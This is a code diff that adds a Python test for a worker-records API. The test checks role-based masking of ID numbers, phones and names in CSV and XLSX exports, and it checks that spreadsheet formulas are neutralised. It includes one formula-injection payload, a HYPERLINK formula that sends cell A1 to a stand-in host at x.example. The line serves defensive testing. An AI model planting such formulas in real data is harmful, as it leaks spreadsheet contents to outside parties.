@@ -127,3 +127,36 @@ def test_size_limit_and_file_kind(sample_apps, tmp_path) -> None:  # type: ignor
         assert (
             r.status_code == 422 and r.json()["errors"][0]["msg"] == "文件应为 .csv（UTF-8 或 GBK）或 .xlsx"
         )
+
+
+def test_export_is_masked_for_the_role_and_never_a_formula(client: TestClient) -> None:
+    import csv
+
+    from openpyxl import load_workbook
+
+    counselor = bearer(client, *make_user(engine_of(client), "counselor", region="14"))
+    admin = bearer(client, *make_user(engine_of(client), "admin", region="14"))
+    evil = '=HYPERLINK("http://x.example/?"&A1,"点我")'
+    assert (
+        client.patch("/api/v1/workers/W1", json={"skills_text": evil}, headers=counselor).status_code == 200
+    )
+    raw = factories.workers()["id_number"][0]
+    r = client.get("/api/v1/workers/export", params={"format": "csv"}, headers=counselor)
+    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
+    assert r.headers["content-disposition"] == 'attachment; filename="workers.csv"'
+    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
+    assert [row["id"] for row in rows] == ["W1", "W2"]
+    assert rows[0]["id_number_masked"] == "141***********" + raw[-4:]
+    assert rows[0]["skills_text"] == "'" + evil and rows[0]["name_masked"] == "张**"
+    r = client.get("/api/v1/workers/export", params={"format": "xlsx"}, headers=admin)
+    assert r.status_code == 200
+    sheet = load_workbook(io.BytesIO(r.content)).active
+    assert sheet is not None
+    cells = [[c.value for c in row] for row in sheet.iter_rows()]
+    header = cells[0]
+    first = dict(zip(header, cells[1], strict=True))
+    assert first["id_number_masked"] == "141***************" and first["phone_masked"] == "138******78"
+    assert first["skills_text"] is None
+    assert raw not in r.content.decode("latin-1")
+    employer = bearer(client, *make_user(engine_of(client), "worker", region="141124", worker_id="W1"))
+    assert client.get("/api/v1/workers/export", headers=employer).status_code == 403
